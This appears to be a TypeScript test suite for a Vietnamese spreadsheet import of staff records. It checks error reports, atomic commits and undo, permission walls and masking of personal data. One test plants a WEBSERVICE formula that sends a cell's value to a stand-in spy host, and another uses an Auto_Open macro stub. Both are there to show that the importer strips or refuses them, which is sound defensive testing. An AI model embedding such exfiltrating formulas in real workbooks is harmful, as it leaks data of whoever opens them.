import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { readXlsx } from 'hucre/xlsx'
import { Problem } from '#contract/kernel/problem.ts'
import { fields } from '#contract/words/vi.ts'
import type { Queryable } from '#server/platform/db.ts'
import { peopleImport } from '#server/identity/index.ts'
import { workbookOf } from '#server/platform/tables/testing.ts'
import { expect, test, type Cast } from '#server/testing/door.ts'
import { runLongWork } from '#server/agenda/index.ts'
import { tasksWith } from './index.ts'
import { checkFile, officers } from './testing.ts'

const centreOf = async (as: Cast): Promise<string> => (await as.centre.actor())?.organisationName ?? ''

const countPeople = async (db: Queryable): Promise<number> =>
  (await db.query<{ n: number }>('select count(*)::int as n from identity.person')).rows[0]?.n ?? 0

const refusalOf = async (work: Promise<unknown>): Promise<Problem> => {
  const thrown: unknown = await work.then(
    () => null,
    (error: unknown) => error,
  )
  if (thrown instanceof Problem) return thrown
  throw new Error('nothing was refused')
}

/** Three rows in a hundred are bad, each in its own way. */
const spoiled = (row: (string | number)[], i: number): (string | number)[] => {
  if (i % 100 === 17) return row.with(4, 'Viên chức Trung tân')
  if (i % 100 === 50) return row.with(6, '31/02/2026')
  return i % 100 === 83 ? row.with(1, '') : row
}

test('of 300 rows with 3 % bad ones the report lists exactly those, in words and with their places', async ({
  as,
}) => {
  const at = await centreOf(as)
  const checked = await checkFile(as.administrator, 'people', officers(300, at, spoiled))
  expect(checked).toMatchObject({
    state: 'checked',
    counts: { rows: 300, problems: 9, badRows: 9, created: 291, changed: 0 },
  })
  const { problems } = await as.administrator.ask('tables.report', { id: checked.id, part: 'problems' })
  expect(problems.map(({ address }) => address)).toEqual([
    'E20',
    'G53',
    'B86',
    'E120',
    'G153',
    'B186',
    'E220',
    'G253',
    'B286',
  ])
  expect(problems[0]).toMatchObject({
    heading: 'Vai trò',
    value: 'Viên chức Trung tân',
    proposal: 'Viên chức Trung tâm',
  })
  expect(problems[1]?.why).toMatch(/Không phải ngày/)
  expect(problems[2]?.why).toBe('Chưa nhập.')
})

test('nothing is written while one cell is bad', async ({ as, db }) => {
  const before = await countPeople(db)
  const { id, version } = await checkFile(
    as.administrator,
    'people',
    officers(100, await centreOf(as), spoiled),
  )
  const refused = await refusalOf(as.administrator.do('tables.commit', { id, version }))
  expect(refused.fields[0]).toMatchObject({ path: ['file'], code: 'table.problems', facts: { count: 3 } })
  expect(await countPeople(db)).toBe(before)
})

test('the mended file is taken in once; a second time changes nothing; undone, all is as it was', async ({
  as,
  db,
}) => {
  const at = await centreOf(as)
  const before = await countPeople(db)
  const bytes = officers(100, at)
  const first = await checkFile(as.administrator, 'people', bytes)
  const done = await as.administrator.do('tables.commit', { id: first.id, version: first.version })
  expect(done).toMatchObject({ state: 'committed', counts: { created: 100 } })
  expect(await countPeople(db)).toBe(before + 100)
  const again = await checkFile(as.administrator, 'people', bytes)
  expect(again).toMatchObject({ counts: { created: 0, changed: 0, unchanged: 100 }, before: { by: done.by } })
  await as.administrator.do('tables.commit', { id: again.id, version: again.version })
  expect(await countPeople(db)).toBe(before + 100)
  await as.administrator.do('tables.undo', { id: done.id, version: done.version })
  expect(await countPeople(db)).toBe(before)
})

test('what a file changes is told as old and new, and set back by the undo', async ({ as, db }) => {
  const at = await centreOf(as)
  const first = await checkFile(as.administrator, 'people', officers(5, at))
  const { changes: made } = await as.administrator.ask('tables.report', { id: first.id, part: 'created' })
  expect(made[0]?.differences.map(({ heading, after }) => `${heading}: ${after}`)).toEqual([
    'Họ và tên: Nguyễn Văn 1',
    'Tên đăng nhập: canbo.1',
    'Thư điện tử: •••••••ple',
    'Điện thoại: •••••••000',
    'Vai trò: Viên chức Trung tâm',
    `Tổ chức: ${at}`,
    'Từ ngày: 01/07/2025',
  ])
  await as.administrator.do('tables.commit', { id: first.id, version: first.version })
  const renamed = officers(5, at, (row, i) => (i === 2 ? row.with(0, 'Trần Thị Ba') : row))
  const second = await checkFile(as.administrator, 'people', renamed)
  const { changes } = await as.administrator.ask('tables.report', { id: second.id, part: 'changed' })
  expect(changes).toMatchObject([
    { key: 'canbo.3', differences: [{ heading: 'Họ và tên', before: 'Nguyễn Văn 3', after: 'Trần Thị Ba' }] },
  ])
  const done = await as.administrator.do('tables.commit', { id: second.id, version: second.version })
  const nameNow = async () =>
    (await db.query<{ name: string }>("select name from identity.person where username = 'canbo.3'")).rows[0]
      ?.name
  expect(await nameNow()).toBe('Trần Thị Ba')
  await as.administrator.do('tables.undo', { id: done.id, version: done.version })
  expect(await nameNow()).toBe('Nguyễn Văn 3')
})

test('an import is not undone over what somebody changed since, and says which rows', async ({ as, db }) => {
  const first = await checkFile(as.administrator, 'people', officers(4, await centreOf(as)))
  const done = await as.administrator.do('tables.commit', { id: first.id, version: first.version })
  await db.query("update identity.person set phone = '0999999999' where username = 'canbo.2'")
  const refused = await refusalOf(as.administrator.do('tables.undo', { id: done.id, version: done.version }))
  expect(refused.code).toBe('in_use')
  expect(refused.fields).toMatchObject([{ code: 'table.touched', facts: { no: 4 } }])
})

test('a dry run that no longer holds is not committed', async ({ as, db }) => {
  const at = await centreOf(as)
  const { id, version } = await checkFile(as.administrator, 'people', officers(3, at))
  const other = await checkFile(as.administrator, 'people', officers(2, at))
  await as.administrator.do('tables.commit', { id: other.id, version: other.version })
  const before = await countPeople(db)
  expect((await refusalOf(as.administrator.do('tables.commit', { id, version }))).code).toBe('stale_version')
  expect(await countPeople(db)).toBe(before)
})

test('the same sheet comes back with its bad cells red and a note on each', async ({ as }) => {
  const { id } = await checkFile(as.administrator, 'people', officers(100, await centreOf(as), spoiled))
  const copy = await as.administrator.ask('tables.marked', { id })
  expect(copy.name).toBe('danh-sach-can-sua.xlsx')
  const [sheet] = (await readXlsx(copy.body, { readStyles: true })).sheets
  expect(sheet?.rows.length).toBe(102)
  expect(sheet?.rows[0]?.[0]).toBe('DANH SÁCH NGƯỜI DÙNG')
  const noted = [...(sheet?.cells ?? [])].filter(([, cell]) => cell.comment)
  expect(noted.map(([key]) => key).toSorted()).toEqual(['19,4', '52,6', '85,1'])
  expect(noted.find(([key]) => key === '19,4')?.[1].comment?.text).toContain('Viên chức Trung tâm')
})

test('the marked copy shows what formulas gave and carries none of them: nothing is fetched when it is opened', async ({
  as,
}) => {
  const at = await centreOf(as)
  const spy = { value: 'Ấp 1', formula: 'WEBSERVICE("http://do-tham.example/"&A2)' }
  const bytes = workbookOf([
    ['Họ và tên', 'Tên đăng nhập', 'Vai trò', 'Đơn vị', 'Ghi chú'],
    ['Nguyễn Văn A', 'canbo.a', 'Viên chức Trung tân', at, spy],
  ])
  const { id } = await checkFile(as.administrator, 'people', bytes)
  const { body } = await as.administrator.ask('tables.marked', { id })
  const parts = Object.values(unzipSync(body)).map((part) => strFromU8(part))
  expect(parts.filter((part) => /WEBSERVICE|do-tham|<f[ >]/.test(part))).toEqual([])
  const [sheet] = (await readXlsx(body)).sheets
  expect(sheet?.rows[1]).toEqual(['Nguyễn Văn A', 'canbo.a', 'Viên chức Trung tân', at, 'Ấp 1'])
})

test('a workbook with a macro is refused when it comes, in words', async ({ as }) => {
  const parts = unzipSync(officers(1, await centreOf(as)))
  const bytes = new Uint8Array(zipSync({ ...parts, 'xl/vbaProject.bin': strToU8('Sub Auto_Open()') }))
  const refused = await refusalOf(
    as.administrator.do('tables.receive', { kind: 'people', name: 'a.xlsx', bytes }),
  )
  expect(refused.fields).toMatchObject([{ path: ['file'], code: 'table.macro' }])
  expect(fields['table.macro']).toContain('macro')
})

test('an e-mail address that the form of one person refuses is refused in a table too', async ({ as }) => {
  const typed = ['an@so.example', 'a..n@so.example', 'an@so', 'a<b>@so.example']
  const bytes = officers(typed.length, await centreOf(as), (row, i) => row.with(2, typed[i] ?? ''))
  const { id } = await checkFile(as.administrator, 'people', bytes)
  const { problems } = await as.administrator.ask('tables.report', { id, part: 'problems' })
  expect(problems.map(({ address }) => address)).toEqual(['C4', 'C5', 'C6'])
})

test('phones and addresses are masked in the report', async ({ as }) => {
  const wrong = officers(1, await centreOf(as), (row) => row.with(3, '091-abc-789'))
  const { id } = await checkFile(as.administrator, 'people', wrong)
  const { problems } = await as.administrator.ask('tables.report', { id, part: 'problems' })
  expect(problems[0]?.value).toBe('•••••••789')
})

test('a matching is remembered for the next file of the same headings', async ({ as }) => {
  const bytes = officers(2, await centreOf(as))
  const received = await as.administrator.do('tables.receive', { kind: 'people', name: 'a.xlsx', bytes })
  const { reading } = await as.administrator.ask('tables.preview', { id: received.id })
  const { phone: _, ...mapping } = reading.mapping
  await as.administrator.do('tables.check', {
    id: received.id,
    version: received.version,
    reading: { ...reading, mapping },
  })
  const next = await as.administrator.do('tables.receive', {
    kind: 'people',
    name: 'b.xlsx',
    bytes: officers(3, await centreOf(as)),
  })
  const seen = await as.administrator.ask('tables.preview', { id: next.id })
  expect(seen.reading.mapping).toEqual(mapping)
})

test('whoever may not add one person imports none, and nobody of another place sees the file', async ({
  as,
  db,
}) => {
  const bytes = officers(2, await centreOf(as))
  const { id, version } = await checkFile(as.administrator, 'people', bytes)
  for (const who of [as.centre, as.director, as.stranger]) {
    expect((await refusalOf(who.do('tables.receive', { kind: 'people', name: 'a.xlsx', bytes }))).code).toBe(
      'not_granted',
    )
    // a colleague who may not do this kind is told so; to everybody else the import does not exist
    const answers = [
      await refusalOf(who.ask('tables.import', { id })),
      await refusalOf(who.ask('tables.marked', { id })),
      await refusalOf(who.do('tables.commit', { id, version })),
    ].map(({ code }) => code)
    expect(new Set(answers)).toEqual(new Set([who === as.director ? 'not_granted' : 'not_found']))
    expect((await who.ask('tables.imports', {})).items).toEqual([])
  }
  // the second wall: another province's transaction has no such rows at all
  const seen = await db.read({ province: '92' }, (inner) => inner.query('select id from tables.import'))
  expect(seen.rows).toEqual([])
})

test('what is no table is refused on the file, in words', async ({ as }) => {
  const send = (text: string) =>
    refusalOf(
      as.administrator.do('tables.receive', { kind: 'people', name: 'x.xlsx', bytes: Buffer.from(text) }),
    )
  expect((await send('%PDF-1.7')).fields).toMatchObject([{ path: ['file'], code: 'table.wrongType' }])
  expect((await send('')).fields).toMatchObject([{ code: 'table.empty' }])
})

test('a large file is checked and taken in by the background, step by step', async ({ as, db }) => {
  const before = await countPeople(db)
  const bytes = officers(9000, await centreOf(as))
  const waiting = await checkFile(as.administrator, 'people', bytes)
  expect(waiting).toMatchObject({ state: 'checking', counts: null })
  const work = (id: string | null) =>
    runLongWork(db, tasksWith([peopleImport]), { provinceId: '96', id: id ?? '' })
  await work(waiting.workId)
  const checked = await as.administrator.ask('tables.import', { id: waiting.id })
  expect(checked).toMatchObject({
    state: 'checked',
    workId: null,
    counts: { rows: 9000, problems: 0, created: 9000 },
  })
  const committing = await as.administrator.do('tables.commit', { id: checked.id, version: checked.version })
  expect(committing.state).toBe('committing')
  await work(committing.workId)
  expect(await as.administrator.ask('tables.import', { id: waiting.id })).toMatchObject({
    state: 'committed',
  })
  expect(await countPeople(db)).toBe(before + 9000)
})

test("the Ministry takes the year's calendar in; what was a working day anyway is no day worked for another", async ({
  as,
}) => {
  const calendar = (...rows: string[][]) => workbookOf([['Ngày', 'Loại', 'Tên ngày', 'Căn cứ'], ...rows])
  const bad = await checkFile(as.ministry, 'calendar', calendar(['31/08/2029', 'Làm bù', 'Bù cho 03/9', '']))
  expect(bad.counts).toMatchObject({ problems: 1, created: 0 })
  const good = await checkFile(
    as.ministry,
    'calendar',
    calendar(['03/09/2029', 'Nghỉ', 'Quốc khánh', 'TB 1/2029'], ['08/09/2029', 'lam bu', 'Bù cho 03/9', '']),
  )
  expect(good.counts).toMatchObject({ problems: 0, created: 2 })
  await as.ministry.do('tables.commit', { id: good.id, version: good.version })
  const { items } = await as.visitor.ask('agenda.calendar', { year: 2029 })
  expect(items.map(({ day, kind }) => `${day} ${kind}`)).toEqual(
    expect.arrayContaining(['2029-09-03 holiday', '2029-09-08 worked']),
  )
})
